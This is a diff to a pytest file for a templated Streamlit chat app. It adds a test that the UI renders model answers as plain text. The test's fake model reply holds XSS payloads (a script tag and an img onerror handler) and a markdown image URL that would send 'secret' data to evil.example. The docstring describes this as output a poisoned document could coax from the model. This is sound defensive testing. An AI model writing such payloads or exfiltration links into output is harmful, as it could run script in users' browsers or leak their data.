@@ -3,12 +3,17 @@
 import json
 
 import pytest
+from markdown_it import MarkdownIt
 from streamlit.testing.v1 import AppTest
 
+import {{ cookiecutter.package_name }}.api.app
 from {{ cookiecutter.package_name }}.api.app import create_app
 from {{ cookiecutter.package_name }}.schemas import CheckResult
 from {{ cookiecutter.package_name }}.settings import Settings
+from {{ cookiecutter.package_name }}.ui.client import ApiClient
 from {{ cookiecutter.package_name }}.ui.state import plain
+from tests.conftest import SAMPLE_DOCS
+from tests.fakes import FakeChatModel
 from tests.servers import close_connections, serve_in_thread
 from tests.ui.conftest import ANSWER, BROKEN, QUESTION, Request, app_test
 
@@ -109,3 +114,35 @@ def test_sidebar_names_the_check_that_fails(
     assert any("data" in line and "check_circle" in line for line in lines)
     assert any("vector" in line and "connection refused" in line for line in lines)
     assert not at.exception
+
+
+def test_html_and_images_in_an_answer_are_shown_as_text(
+    monkeypatch: pytest.MonkeyPatch, settings: Settings
+) -> None:
+    """Model output is untrusted (OWASP LLM05): what a document talked the model into
+    writing must not run (script, event handler) or fetch (an image URL carrying data)."""
+    reply = (
+        "Email us <script>alert(1)</script> <img src=x onerror=alert(2)> "
+        "![logo](https://evil.example/leak?d=secret) [form](https://evil.example/form) [1]"
+    )
+    model = FakeChatModel(messages=iter([reply, reply]), prompts=[])
+    monkeypatch.setattr({{ cookiecutter.package_name }}.api.app, "build_chat_model", lambda _: model)
+    with serve_in_thread(close_connections(create_app(settings))) as url:
+        with ApiClient(url) as client:
+            client.upload([("warranty.md", (SAMPLE_DOCS / "warranty.md").read_bytes())])
+        at = ask(app_test(monkeypatch, url))
+        streamed = at.chat_message[1].markdown[0]
+        at.run()  # and as the history shows it
+        shown = at.chat_message[1].markdown[0]
+
+    # Rendered the way Streamlit's Markdown would be if it let HTML through: still text.
+    render = MarkdownIt("commonmark", {"html": True}).render
+    for element in (streamed, shown):
+        assert not element.proto.allow_html
+        html = render(element.value)
+        assert "&lt;script&gt;alert(1)&lt;/script&gt;" in html
+        assert "&lt;img src=x onerror=alert(2)&gt;" in html
+        assert "<script" not in html
+        assert "<img" not in html
+        assert "<a " not in html  # no link, no image: their URLs stay visible text
+        assert "https://evil.example/leak?d=secret" in html
